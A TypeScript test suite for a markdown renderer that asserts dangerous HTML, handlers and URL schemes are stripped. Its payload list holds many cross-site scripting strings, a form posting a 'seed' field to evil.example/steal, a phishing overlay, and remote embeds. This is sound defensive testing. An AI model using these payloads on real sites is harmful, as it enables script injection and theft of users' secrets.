import assert from "node:assert/strict";
import { describe, it } from "node:test";
import { isSafeImageUrl, isSafeLinkUrl, renderMarkdown } from "#core/entry/index.ts";

/** Every tag name and attribute name in the HTML. */
function tagsAndAttributes(html: string): { tags: Set<string>; attributes: Set<string> } {
  const tags = new Set<string>();
  const attributes = new Set<string>();
  for (const match of html.matchAll(/<([a-z0-9]+)([^>]*)>/gi)) {
    tags.add(match[1].toLowerCase());
    // Attribute values are double-quoted by the renderer; consume them so their text is not read as names.
    for (const attribute of match[2].matchAll(/\s([^\s="'>]+)(?:="[^"]*")?/g)) attributes.add(attribute[1].toLowerCase());
  }
  return { tags, attributes };
}

describe("renderMarkdown", () => {
  it("renders markdown: headings, emphasis, code, lists, autolinks", () => {
    const html = renderMarkdown("# Title\n\n*em* and `code`\n\n```js\nlet a = 1 < 2;\n```\n\n- item https://example.org\n");
    assert.match(html, /<h1>Title<\/h1>/);
    assert.match(html, /<em>em<\/em> and <code>code<\/code>/);
    assert.match(html, /<pre><code class="language-js">let a = 1 &lt; 2;\n<\/code><\/pre>/);
    assert.match(html, /<a href="https:\/\/example.org" rel="noopener noreferrer">https:\/\/example.org<\/a>/);
  });

  const payloads: Array<[string, string]> = [
    ["script tag", "<script>alert(1)</script>"],
    ["img onerror", '<img src=x onerror="alert(1)">'],
    ["svg with script", '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'],
    ["iframe", '<iframe src="javascript:alert(1)"></iframe>'],
    ["javascript link", "[click](javascript:alert(1))"],
    ["mixed-case javascript link", "[click](JaVaScRiPt:alert(1))"],
    ["entity-encoded javascript link", "[click](javascript&#58;alert(1))"],
    ["javascript with control characters", "[click](<java\tscript:alert(1)>)"],
    ["vbscript link", "[click](vbscript:msgbox(1))"],
    ["data: html link", "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"],
    ["data: svg image", "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)"],
    ["data: png image", "![x](data:image/png;base64,iVBORw0KGgo=)"],
    ["javascript image", "![x](javascript:alert(1))"],
    ["reference-style javascript", "[click][r]\n\n[r]: javascript:alert(1)"],
    ["autolink javascript", "<javascript:alert(1)>"],
    ["raw HTML link to javascript:", '<a href="javascript:alert(1)">x</a> <a href="JAVA&#83;CRIPT:alert(1)">y</a>'],
    ["raw HTML image with data: URL", '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" width="10">'],
    ["raw HTML image with javascript: URL and handlers", '<img src="javascript:alert(1)" onload="alert(2)" onerror="alert(3)">'],
    ["details with handlers", '<details open ontoggle="alert(1)"><summary onclick="alert(2)">s</summary>x</details>'],
    ["kbd, sup, sub with handlers", '<kbd onmouseover="alert(1)">K</kbd><sup onclick="alert(2)">1</sup><sub onfocus="alert(3)" tabindex="1">2</sub>'],
    ["inline SVG", '<svg><a href="javascript:alert(1)"><text>x</text></a><animate attributeName="href" to="javascript:alert(1)"/></svg>'],
    ["form", '<form action="https://evil.example/steal" method="post"><input name="seed"><button formaction="javascript:alert(1)">go</button></form>'],
    ["meta refresh", '<meta http-equiv="refresh" content="0;url=https://evil.example/">'],
    ["style element", "<style>body { display: none } a::after { content: 'x' }</style>"],
    ["style attribute overlay", '<div style="position:fixed;inset:0;z-index:9999;background:white">fake login</div>'],
    ["base", '<base href="https://evil.example/">'],
    ["iframe srcdoc", '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
    ["object and embed", '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">'],
    ["link and template", '<link rel="stylesheet" href="https://evil.example/x.css"><template><img src=x onerror=alert(1)></template>'],
    ["attribute breakout in title", '[a](https://example.org "x\\" onmouseover=\\"alert(1)")'],
  ];
  for (const [name, markdown] of payloads) {
    it(`neutralises ${name}`, () => {
      const html = renderMarkdown(markdown);
      const { tags, attributes } = tagsAndAttributes(html);
      for (const tag of ["script", "svg", "iframe", "object", "embed", "style", "form", "input", "button", "meta", "base", "link", "template", "animate"])
        assert.ok(!tags.has(tag), `<${tag}> in ${html}`);
      for (const attribute of attributes)
        assert.ok(!attribute.startsWith("on") && !["style", "srcdoc", "formaction", "action", "tabindex"].includes(attribute), `${attribute}= in ${html}`);
      for (const match of html.matchAll(/\s(?:href|src)="([^"]*)"/g)) {
        assert.doesNotMatch(match[1].replace(/[\u0000-\u0020]/g, ""), /^(javascript|vbscript|data):/i, html);
      }
    });
  }

  it("adds rel=noopener noreferrer to every link", () => {
    const html = renderMarkdown("[a](https://a.example) <https://b.example> https://c.example [d](#top) [e](other.html)");
    const links = [...html.matchAll(/<a [^>]*>/g)].map((match) => match[0]);
    assert.equal(links.length, 5);
    for (const link of links) assert.match(link, /rel="noopener noreferrer"/);
  });

  it("keeps images inside the entry directory and on http(s)/ipfs, refuses others", () => {
    const html = renderMarkdown("![a](images/a.png) ![b](https://example.org/b.png) ![c](ipfs://bafkqaaa) ![d](../outside.png) ![e](/abs.png)");
    assert.match(html, /<img src="images\/a.png" alt="a"/);
    assert.match(html, /<img src="https:\/\/example.org\/b.png"/);
    assert.match(html, /<img src="ipfs:\/\/bafkqaaa"/);
    assert.doesNotMatch(html, /outside\.png|abs\.png"/);
    assert.equal(isSafeImageUrl("images/%2e%2e/x.png"), false);
    assert.equal(isSafeLinkUrl("mailto:a@example.org"), true);
    assert.equal(isSafeLinkUrl(" javascript:alert(1)"), false);
  });

  it("resolves relative URLs against baseUrl for the web app", () => {
    const html = renderMarkdown("![a](images/a.png) [b](index.md)", { baseUrl: "https://gw.example/ipfs/bafyx/" });
    assert.match(html, /src="https:\/\/gw.example\/ipfs\/bafyx\/images\/a.png"/);
    assert.match(html, /href="https:\/\/gw.example\/ipfs\/bafyx\/index.md"/);
  });

  it("can leave out a leading H1 equal to the title", () => {
    assert.equal(renderMarkdown("# Same\n\ntext\n", { omitLeadingTitle: "Same" }), "<p>text</p>\n");
    assert.match(renderMarkdown("# Other\n\ntext\n", { omitLeadingTitle: "Same" }), /<h1>Other<\/h1>/);
  });

  it("renders the raw HTML GitHub renders in a README: sized and aligned images, details, kbd, sup/sub, br", () => {
    const html = renderMarkdown(
      '<img src="images/a.png" width="200" height="100" align="right" alt="A">\n\n<details><summary>More</summary>\n\nHidden **markdown**\n\n</details>\n\nPress <kbd>Ctrl</kbd>+<kbd>C</kbd>, x<sup>2</sup> H<sub>2</sub>O<br>next\n',
    );
    assert.match(html, /<img src="images\/a.png" width="200" height="100" align="right" alt="A" loading="lazy" \/>/);
    assert.match(html, /<details><summary>More<\/summary>\n<p>Hidden <strong>markdown<\/strong><\/p>\n<\/details>/);
    assert.match(html, /<kbd>Ctrl<\/kbd>\+<kbd>C<\/kbd>, x<sup>2<\/sup> H<sub>2<\/sub>O<br \/>/);
  });

  it("holds raw HTML images and links to the markdown rules, and keeps table alignment but no other style", () => {
    const html = renderMarkdown(
      '<img src="../up.png" alt="up"> <img src="https://example.org/r.png"> <a href="docs/x.md">rel</a>\n\n| a | b |\n|:-|-:|\n| <span style="position:fixed">1</span> | 2 |\n',
      { baseUrl: "https://gw.example/ipfs/bafyx/" },
    );
    assert.match(html, /\[image: up\]/);
    assert.doesNotMatch(html, /up\.png/);
    assert.match(html, /<img src="https:\/\/example.org\/r.png" loading="lazy" \/>/);
    assert.match(html, /<a href="https:\/\/gw.example\/ipfs\/bafyx\/docs\/x.md" rel="noopener noreferrer">rel<\/a>/);
    assert.match(html, /<th style="text-align:left">a<\/th>/);
    assert.match(html, /<td style="text-align:left"><span>1<\/span><\/td>/);
  });

  it("renders a note without raw HTML exactly as markdown-it does (its entry's CID does not change)", () => {
    assert.equal(
      renderMarkdown('# T\n\nA "quote" & <https://example.org>\n'),
      '<h1>T</h1>\n<p>A &quot;quote&quot; &amp; <a href="https://example.org" rel="noopener noreferrer">https://example.org</a></p>\n',
    );
  });
});
